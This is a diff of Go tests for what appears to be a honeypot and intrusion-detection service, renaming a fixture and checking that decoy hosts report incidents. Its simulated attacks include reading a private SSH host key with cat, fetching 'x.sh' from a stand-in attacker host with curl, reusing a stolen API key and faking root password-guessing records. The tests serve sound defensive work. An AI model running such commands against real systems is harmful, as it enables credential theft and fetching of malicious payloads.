@@ -21,9 +21,9 @@ import (
 	"go.cordon.dev/cordon/internal/testport"
 )
 
-// joined is a gateway with a decky that speaks SSH and HTTP, a Hypercore that is followed,
+// snare is a gateway with a decky that speaks SSH and HTTP, a Hypercore that is followed,
 // and a receiver of what is told of incidents.
-type joined struct {
+type snare struct {
 	*gateway
 	hook      *receiver
 	core      string
@@ -33,9 +33,9 @@ type joined struct {
 
 const trapPassword = "the-third-" + "guess"
 
-func newJoined(t *testing.T) *joined {
+func newSnare(t *testing.T) *snare {
 	const secret = "whsec_" + "C2FVsBQIhrscChlQIMV+b5sSYspob7oD" // cordon:allow
-	p := &joined{hook: newReceiver(t, secret), dir: t.TempDir()}
+	p := &snare{hook: newReceiver(t, secret), dir: t.TempDir()}
 	p.core = filepath.Join(p.dir, "core")
 	_, p.ssh, _ = strings.Cut(testport.Addr(t), ":")
 	_, p.http, _ = strings.Cut(testport.Addr(t), ":")
@@ -57,7 +57,7 @@ notify: {webhooks: [{id: soc, url: %q, secret: %q, topics: ["incident.>"], allow
 }
 
 // login runs a command on the decky with Debian's client.
-func (p *joined) login(command string) string {
+func (p *snare) login(command string) string {
 	p.t.Helper()
 	ask := filepath.Join(p.dir, "ask")
 	mustDo(p.t, os.WriteFile(ask, []byte("#!/bin/sh\necho '"+trapPassword+"'\n"), 0o700))
@@ -73,7 +73,7 @@ func (p *joined) login(command string) string {
 }
 
 // touch is a client of the decky that comes from an address of this machine.
-func (p *joined) touch(from string) {
+func (p *snare) touch(from string) {
 	p.t.Helper()
 	out, err := exec.Command(servicetest.Program(p.t, "curl", "curl"), "-s", "--interface", from, "http://127.0.0.1:"+p.http+"/").CombinedOutput()
 	if err != nil {
@@ -97,7 +97,7 @@ func outside(t *testing.T) string {
 }
 
 // joined waits for the one incident and checks that it is told once, as what it is.
-func (p *joined) joined(since time.Time, join, severity string, sensors []string, story ...string) {
+func (p *snare) joined(since time.Time, join, severity string, sensors []string, story ...string) {
 	p.t.Helper()
 	eventually(p.t, 2*time.Minute, "the incident", func() bool { all := p.incidents().Items; return len(all) > 0 && all[0].Join != "" })
 	p.t.Logf("%s %v after the last half, as the command line sees it", join, time.Since(since).Round(time.Millisecond))
@@ -119,7 +119,7 @@ func (p *joined) joined(since time.Time, join, severity string, sensors []string
 
 // (b) Whoever shows a key that only a decky holds was on the decky.
 func TestASecretThatADeckyHoldsIsSeenInALog(t *testing.T) {
-	p := newJoined(t)
+	p := newSnare(t)
 	key := p.login("cat /etc/ssh/ssh_host_ed25519_key")
 	if !strings.HasPrefix(key, "-----BEGIN") {
 		t.Fatalf("the decky shows %q", key)
@@ -134,7 +134,7 @@ func TestASecretThatADeckyHoldsIsSeenInALog(t *testing.T) {
 // (d) A program of ours wants to go where an attacker wanted to get something from: it
 // may be theirs by now.
 func TestAProgramWantsToReachAnAttackersHost(t *testing.T) {
-	p := newJoined(t)
+	p := newSnare(t)
 	const host = "cdn.updates-mirror.example"
 	curl := func() {
 		out, err := exec.Command(servicetest.Program(t, "curl", "curl"), "-s", "-x", "http://"+p.proxy, "http://"+host+"/x.sh").CombinedOutput()
@@ -150,7 +150,7 @@ func TestAProgramWantsToReachAnAttackersHost(t *testing.T) {
 
 // (e) Who attacks deckies has a key of ours.
 func TestAnAttackerUsesAnAPIKey(t *testing.T) {
-	p, from := newJoined(t), outside(t)
+	p, from := newSnare(t), outside(t)
 	p.touch(from)
 	client := http.Client{Transport: &http.Transport{DisableKeepAlives: true, DialContext: (&net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}}).DialContext}, Timeout: time.Minute}
 	req, err := http.NewRequest(http.MethodGet, "http://"+p.addr+"/api/v1/quarantine", nil)
@@ -168,7 +168,7 @@ func TestAnAttackerUsesAnAPIKey(t *testing.T) {
 
 // (c) Who guesses passwords elsewhere and touches a decky is one attacker.
 func TestWhoTripsTheAnomalySensorTouchesADecky(t *testing.T) {
-	p, from := newJoined(t), outside(t)
+	p, from := newSnare(t), outside(t)
 	var records []map[string]any
 	for i := range 12 {
 		records = append(records, map[string]any{"kind": "auth_failed", "time": time.Now().Add(time.Duration(i-12) * time.Second).UTC().Format(time.RFC3339), "source_ip": from, "user": "root"})
